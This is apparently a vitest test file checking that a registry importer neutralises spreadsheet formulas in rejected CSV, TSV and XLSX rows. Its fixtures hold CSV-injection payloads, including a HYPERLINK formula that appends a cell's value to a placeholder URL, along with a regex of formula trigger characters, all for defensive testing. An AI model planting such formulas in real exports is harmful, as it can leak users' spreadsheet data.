import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { expect, test } from "vitest";
import yauzl from "yauzl";
import { guardFormulas, withoutGuards } from "../../src/kernel/sheets/formula-guard.js";
import { startRegistry } from "../support/imports.js";
import { bookOf, written } from "../support/workbooks.js";

const header = ["Nombres", "Apellidos", "Teléfono contacto", "Observaciones", "-Grupo", "Casa"];
/** Rejected, because it has no first name. */
const notes = [
  '=HYPERLINK("http://example.org/?"&A1,"Ver")',
  "'=1+1",
  "''=1+1",
  "'Agua clara",
  "@maria",
  "-",
  "+58 414-5550101",
  "toma agua;=1+1,=2+2",
  "＝1+1",
  "1=1",
];
const rows = notes.map((note, at) => [
  "",
  `Rojas ${"abcdefghij".charAt(at)}`,
  "+58 414-5550101",
  note,
  "-2",
  "@3",
]);
const runs = /(?:^|[,;|\t\r\n])[=+@\t\r＝＋－＠-]/;

test.each([
  ["csv", ","],
  ["tsv", "\t"],
])(
  "rejected rows of a %s list apart by %j run nothing, and come back as they were",
  async (ending, delimiter) => {
    const registry = await startRegistry();
    const file = join(registry.folder, `list.${ending}`);
    await writeFile(file, stringify([header, ...rows], { delimiter }));
    const first = (await registry.import(file, "--source", "form")).result.rejects_file ?? "";
    const text = await readFile(first, "utf8");
    // The first line says what was said of the list.
    const cells: string[][] = parse(text, { delimiter, from_line: 2 });
    expect(cells).toHaveLength(1 + notes.length);
    expect(cells.flat().filter((cell) => runs.test(cell))).toEqual([]);

    const again = (await registry.import(first, "--source", "form")).result.rejects_file ?? "";
    expect(await readFile(again, "utf8")).toBe(text);

    const corrected = (lines: string[][]) => lines.map(([_, ...others]) => ["Ana", ...others]);
    const mended = join(registry.folder, `mended.${ending}`);
    await writeFile(
      mended,
      stringify([cells[0] ?? [], ...corrected(cells.slice(1))], { delimiter }),
    );
    const direct = join(registry.folder, `direct.${ending}`);
    await writeFile(direct, stringify([header, ...corrected(rows)], { delimiter }));
    expect((await registry.import(mended, "--source", "form")).result.created).toBe(notes.length);
    expect((await registry.import(direct, "--source", "persons_list")).result.created).toBe(
      notes.length,
    );
    const contents = await registry.contents();
    expect(contents.slice(0, notes.length)).toEqual(contents.slice(notes.length));
    expect(contents.map(({ notes: stored }) => stored)).toEqual(
      [...notes, ...notes].map((note) => expect.stringContaining(note.replace(/^'?(?='*=1)/, ""))),
    );
  },
);

test("rejected rows of a workbook are text, and come back as they were", async () => {
  const registry = await startRegistry();
  const file = join(registry.folder, "list.xlsx");
  await writeFile(file, written(bookOf({ A: [header, ...rows] }), "xlsx"));
  const first = (await registry.import(file, "--source", "form")).result.rejects_file ?? "";
  const sheet = await partOf(first, "xl/worksheets/sheet1.xml");
  expect(sheet).not.toMatch(/<f[ >]/);
  expect(new Set(sheet.match(/<c [^>]*>/g)?.map((cell) => cell.replace(/ r="\w+"/, "")))).toEqual(
    new Set(['<c t="s" s="1">', '<c s="1"/>']), // a text by its number, and a cell that waits for one
  );
  const again = (await registry.import(first, "--source", "form")).result.rejects_file ?? "";
  expect(await partOf(again, "xl/worksheets/sheet1.xml")).toBe(sheet);
  const texts = "xl/sharedStrings.xml";
  expect(await partOf(again, texts)).toBe(await partOf(first, texts));
});

test("whatever a cell holds, guarded it runs nothing, and unguarded it is as it was", () => {
  const sign = fc.constantFrom(
    "'",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    ",",
    ";",
    "|",
    " ",
    "a",
    "1",
    "＝",
  );
  fc.assert(
    fc.property(fc.string({ unit: sign }), (cell) => {
      expect(guardFormulas(cell)).not.toMatch(runs);
      expect(withoutGuards(guardFormulas(cell))).toBe(cell);
    }),
  );
});

/** One file of a workbook, as text. */
async function partOf(path: string, name: string): Promise<string> {
  const archive = await yauzl.openPromise(path);
  for await (const entry of archive.eachEntry()) {
    if (entry.fileName !== name) continue;
    const chunks: Buffer[] = [];
    for await (const chunk of await archive.openReadStreamPromise(entry)) chunks.push(chunk);
    return Buffer.concat(chunks).toString();
  }
  throw new Error(`There is no ${name} in ${path}`);
}
